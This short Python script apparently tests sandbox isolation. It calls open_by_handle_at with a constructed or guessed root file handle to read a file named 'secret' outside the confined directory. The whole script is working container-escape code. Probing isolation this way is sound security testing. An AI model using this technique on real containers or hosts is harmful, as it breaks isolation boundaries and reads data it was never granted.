"""Opens the secret by a handle of its file system: made here where that is allowed, else guessed."""

import contextlib
import ctypes
import os
import platform
import struct

libc = ctypes.CDLL(None, use_errno=True)
name_to_handle, open_by_handle = {"x86_64": (303, 304), "aarch64": (264, 265)}[platform.machine()]
path = os.environ["OUTSIDE"] + "/secret"
handles = []
made, mount = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128)), ctypes.c_int()
if libc.syscall(name_to_handle, -100, path.encode(), made, ctypes.byref(mount), 0) == 0:
    handles.append(made.raw)
# The root of the file system has the same number nearly everywhere.
handles += [struct.pack("IiII", 8, 1, 2, generation) + bytes(128) for generation in (0, 1)]
here = os.open(".", os.O_RDONLY)
for handle in handles:
    descriptor = libc.syscall(open_by_handle, here, ctypes.create_string_buffer(handle), os.O_RDONLY)
    if descriptor >= 0:
        with contextlib.suppress(OSError):
            print(os.pread(descriptor, 100, 0))
        with contextlib.suppress(OSError):
            print(os.read(os.open(path.lstrip("/"), os.O_RDONLY, dir_fd=descriptor), 100))
